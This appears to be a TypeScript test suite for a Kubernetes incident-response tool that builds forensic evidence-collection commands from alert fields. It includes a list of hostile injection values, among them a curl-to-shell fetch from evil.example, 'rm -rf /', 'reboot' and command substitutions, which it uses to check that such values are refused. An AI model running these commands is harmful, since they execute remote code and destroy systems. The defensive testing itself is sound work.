import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { planCollection, type CollectionTarget } from "@/lib/domain/evidence/collection";
import { shellQuote } from "@/lib/domain/template-encoding";

const DIGEST = `sha256:${"ab".repeat(32)}`;

const target = (over: Partial<CollectionTarget> = {}): CollectionTarget => ({
  incidentKey: "INC-0042",
  runtime: "CONTAINERD",
  cluster: "prod-eu-1",
  namespace: "payments",
  pod: "payments-api-7d9f8c6b5-x2x4q",
  containerName: "api",
  containerId: "0123456789ab",
  node: "ip-10-0-1-12.eu-west-1.compute.internal",
  workload: "payments-api",
  image: "ghcr.io/acme/payments-api:1.4.2",
  imageDigest: DIGEST,
  since: new Date("2026-12-04T09:00:00Z"),
  probablyGone: false,
  ...over,
});

const ids = (t: CollectionTarget) => planCollection(t).commands.map((c) => c.id);
const command = (t: CollectionTarget, id: string) => planCollection(t).commands.find((c) => c.id === id)?.command;

/**
 * The shell's structure of a command: every operator, substitution and redirection outside single
 * quotes, in order. A value can change a command's words but never this.
 */
function shellStructure(cmd: string): string[] {
  const out: string[] = [];
  let single = false;
  let double = false;
  for (let i = 0; i < cmd.length; i++) {
    const c = cmd[i]!;
    if (single) {
      if (c === "'") single = false;
      continue;
    }
    if (c === "\\") {
      out.push("\\");
      i++;
      continue;
    }
    if (c === "'" && !double) single = true;
    else if (c === '"') double = !double;
    else if (c === "`" || (c === "$" && cmd[i + 1] === "(")) out.push(c === "`" ? "`" : "$(");
    else if (c === ")" || (!double && /[;&|<>\n#*?[\]{}~]/.test(c))) out.push(c);
  }
  out.push(single || double ? "unterminated" : "end");
  return out;
}

describe("planCollection", () => {
  it("offers kubectl, the kubelet checkpoint, crictl, ctr, the journal and the registry for containerd", () => {
    expect(ids(target())).toEqual([
      "kubectl-workload-manifest",
      "kubectl-pod-manifest",
      "kubectl-logs",
      "kubectl-logs-previous",
      "kubectl-events",
      "kubectl-cp",
      "kubelet-checkpoint",
      "crictl-inspect",
      "crictl-logs",
      "crictl-checkpoint",
      "ctr-snapshot-diff",
      "ctr-image-export",
      "journalctl",
      "skopeo-copy",
      "crane-pull",
    ]);
  });

  it("offers crictl but not ctr for CRI-O, and reads crio's journal", () => {
    const t = target({ runtime: "CRI_O" });
    expect(ids(t)).toContain("crictl-checkpoint");
    expect(ids(t).filter((id) => id.startsWith("ctr-"))).toEqual([]);
    expect(command(t, "journalctl")).toContain("--unit crio");
  });

  it("offers docker diff, export, checkpoint create and save for Docker", () => {
    const t = target({ runtime: "DOCKER" });
    const plan = planCollection(t);
    expect(plan.commands.filter((c) => c.id.startsWith("docker-")).map((c) => c.command)).toEqual([
      "docker inspect 0123456789ab > INC-0042-docker-inspect.json",
      "docker diff 0123456789ab > INC-0042-docker-diff.txt",
      "docker export --output /var/tmp/INC-0042-container.tar 0123456789ab",
      "docker logs --timestamps 0123456789ab > INC-0042-docker-logs.txt 2>&1",
      "docker checkpoint create --leave-running --checkpoint-dir /var/tmp 0123456789ab INC-0042-checkpoint && tar --create --file /var/tmp/INC-0042-checkpoint.tar --directory /var/tmp INC-0042-checkpoint",
      `docker save --output /var/tmp/INC-0042-image.tar ghcr.io/acme/payments-api@${DIGEST}`,
    ]);
    expect(ids(t).filter((id) => id.startsWith("crictl-") || id.startsWith("ctr-"))).toEqual([]);
  });

  it("writes the kubectl commands with every value in place and files named from the incident key", () => {
    const t = target();
    expect(command(t, "kubectl-logs-previous")).toBe(
      "kubectl logs payments-api-7d9f8c6b5-x2x4q --namespace payments --container api --previous --timestamps > INC-0042-logs-previous.txt",
    );
    expect(command(t, "kubectl-events")).toBe(
      "kubectl get events --namespace payments --field-selector involvedObject.name=payments-api-7d9f8c6b5-x2x4q --output yaml > INC-0042-events.yaml",
    );
    expect(command(t, "kubelet-checkpoint")).toContain("https://localhost:10250/checkpoint/payments/payments-api-7d9f8c6b5-x2x4q/api");
    expect(planCollection(t).commands.find((c) => c.id === "kubectl-pod-manifest")?.hashCommand).toBe("sha256sum INC-0042-pod.yaml");
  });

  it("pulls the image by digest, never by tag", () => {
    expect(command(target(), "skopeo-copy")).toBe(
      `skopeo copy docker://ghcr.io/acme/payments-api@${DIGEST} oci-archive:INC-0042-image-oci.tar`,
    );
    // A digest in the reference itself serves when the alerts carry no separate one.
    expect(command(target({ imageDigest: null, image: `registry.local:5000/team/app:2@${DIGEST}` }), "crane-pull")).toBe(
      `crane pull registry.local:5000/team/app@${DIGEST} INC-0042-image.tar`,
    );
    const noDigest = planCollection(target({ imageDigest: null }));
    expect(noDigest.commands.map((c) => c.id)).not.toContain("skopeo-copy");
    expect(noDigest.unavailable.map((u) => u.what)).toContain("The image by digest");
  });

  it("resolves Falco's short container id for ctr, and uses a full one as it is", () => {
    expect(command(target(), "ctr-snapshot-diff")).toContain(
      `"$(crictl inspect --output go-template --template '{{.status.id}}' 0123456789ab)"`,
    );
    const full = "f".repeat(64);
    expect(command(target({ containerId: full }), "ctr-snapshot-diff")).toContain(`snapshots diff ${full})`);
  });

  it("marks what only a running container can answer", () => {
    const running = planCollection(target())
      .commands.filter((c) => c.needsRunningContainer)
      .map((c) => c.id);
    expect(running).toEqual(["kubectl-logs", "kubectl-cp", "kubelet-checkpoint", "crictl-checkpoint"]);
  });

  it("has no runtime commands for a host event, an unknown runtime or no container id", () => {
    const runtimeIds = (t: CollectionTarget) => ids(t).filter((id) => /^(?:crictl|ctr|docker)-/.test(id));
    expect(runtimeIds(target({ containerId: "host" }))).toEqual([]);
    expect(runtimeIds(target({ containerId: null }))).toEqual([]);
    const unknown = planCollection(target({ runtime: null }));
    expect(unknown.commands.filter((c) => /^(?:crictl|ctr|docker)-/.test(c.id))).toEqual([]);
    expect(unknown.unavailable[0]?.why).toMatch(/runtime is unknown/);
    expect(ids(target({ runtime: null }))).toContain("kubectl-pod-manifest");
  });

  it("falls back to the namespace's events without a pod, and says what is missing", () => {
    const plan = planCollection(target({ pod: null }));
    expect(plan.commands.find((c) => c.id === "kubectl-events")?.command).toBe(
      "kubectl get events --namespace payments --output yaml > INC-0042-events.yaml",
    );
    expect(plan.unavailable.map((u) => u.what)).toContain("Pod manifest and container logs");
    expect(planCollection(target({ namespace: null })).commands.filter((c) => c.id.startsWith("kubectl-"))).toEqual([]);
  });

  it("reads the node's journal from the given time, in UTC, or the last day", () => {
    expect(command(target(), "journalctl")).toBe(
      "journalctl --unit kubelet --unit containerd --since '2026-12-04 09:00:00 UTC' --utc --output short-iso > INC-0042-node-journal.txt",
    );
    expect(command(target({ since: null }), "journalctl")).toContain("--since -24h");
  });

  it("says what is still obtainable and what is lost", () => {
    const plan = planCollection(target({ probablyGone: true }));
    expect(plan.stillObtainable.join(" ")).toMatch(/image, by digest.*journal.*alert record/);
    expect(plan.lost.join(" ")).toMatch(/filesystem.*memory/);
  });

  // Values an attacker inside the container writes into the alert.
  const HOSTILE: [keyof CollectionTarget, string][] = [
    ["pod", "web-1; curl -sk https://evil.example/x.sh | sh"],
    ["pod", "web-1$(id)"],
    ["namespace", "default`reboot`"],
    ["containerName", "api' && rm -rf / #"],
    ["containerId", "0123456789ab; id"],
    ["node", "node-1\nwhoami"],
    ["workload", "payments-api --output=json"],
    ["image", "ghcr.io/acme/app:1 && curl evil"],
    ["imageDigest", "sha256:../../etc/passwd"],
    ["cluster", "prod$(touch /tmp/x)"],
  ];

  it.each(HOSTILE)("refuses %s %j and leaves it out of every command", (field, value) => {
    const plan = planCollection(target({ [field]: value }));
    expect(plan.refused).toHaveLength(1);
    expect(plan.refused[0]!.reason).toMatch(/^the value from the alerts /);
    for (const c of plan.commands) {
      expect(c.command).not.toContain(value);
      expect(c.title).not.toContain(value);
    }
  });

  it("never lets an alert value change a command's shell structure (property)", () => {
    const benign = planCollection(target());
    const structure = new Map(benign.commands.map((c) => [c.id, shellStructure(c.command)]));
    const hashStructure = new Map(benign.commands.map((c) => [c.id, shellStructure(c.hashCommand)]));
    const hostile = fc.oneof(
      fc.string({ maxLength: 80 }),
      fc.string({ unit: fc.constantFrom(..."a-.;|&$`'\"\\()<>\n *?#~{}[]/:@0f"), maxLength: 40 }),
      fc.constantFrom(...HOSTILE.map(([, v]) => v)),
    );
    const field = (valid: string | null) => fc.oneof(fc.constant(valid), hostile);
    fc.assert(
      fc.property(
        fc.record({
          cluster: field("prod-eu-1"),
          namespace: field("payments"),
          pod: field("payments-api-7d9f8c6b5-x2x4q"),
          containerName: field("api"),
          containerId: field("0123456789ab"),
          node: field("ip-10-0-1-12"),
          workload: field("payments-api"),
          image: field("ghcr.io/acme/payments-api:1.4.2"),
          imageDigest: field(DIGEST),
        }),
        (fields) => {
          const plan = planCollection(target(fields));
          for (const c of plan.commands) {
            expect(structure.has(c.id)).toBe(true);
            expect(shellStructure(c.command)).toEqual(structure.get(c.id));
            expect(shellStructure(c.hashCommand)).toEqual(hashStructure.get(c.id));
            expect(c.command).not.toMatch(/[\n\r]/);
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("shellQuote", () => {
  it.each([
    ["payments-api", "payments-api"],
    ["a b", "'a b'"],
    ["it's", "'it'\\''s'"],
    ["", "''"],
    ["$(id)", "'$(id)'"],
  ])("quotes %j as %s", (value, quoted) => {
    expect(shellQuote(value)).toBe(quoted);
  });

  it("is always exactly one word that reads back as the value (property)", () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const quoted = shellQuote(value);
        // Undo POSIX quoting: outside quotes only inert characters, inside single quotes anything but '.
        let out = "";
        let single = false;
        const chars = [...quoted];
        for (let i = 0; i < chars.length; i++) {
          const c = chars[i]!;
          if (single) {
            if (c === "'") single = false;
            else out += c;
          } else if (c === "'") single = true;
          else if (c === "\\") out += chars[++i] ?? "";
          else {
            expect(c).toMatch(/^[\w.:/@=,+-]$/);
            out += c;
          }
        }
        expect(single).toBe(false);
        expect(out).toBe(value);
      }),
    );
  });
});
